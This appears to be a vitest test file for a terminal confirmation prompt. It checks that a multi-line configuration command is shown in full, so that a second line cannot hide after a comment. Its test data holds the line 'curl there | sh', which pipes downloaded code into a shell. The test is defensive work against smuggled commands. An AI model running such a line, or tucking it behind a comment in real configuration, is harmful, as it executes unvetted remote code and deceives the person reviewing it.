import { expect, it } from 'vitest';
import type { Output } from './output.ts';
import { personAt } from './person.ts';
import type { TerminalPlace } from './terminal-place.ts';

it('RTE-05: a command of several lines is not shown as one whose rest is a comment', async () => {
  let asked = '';
  const ask = async (question: string) => {
    asked = question;
    return 'n';
  };
  const person = personAt({ attended: true, ask } as unknown as TerminalPlace, { format: 'text' } as unknown as Output);
  const said = { 'crew.check': 'npm test # all of it\ncurl there | sh' };
  expect(await person.heed?.({ files: ['/p/signalbox.yaml'], said, hash: 'h' })).toBe(false);
  expect(asked).toContain('  crew.check: npm test # all of it ⏎ curl there | sh\n');
});
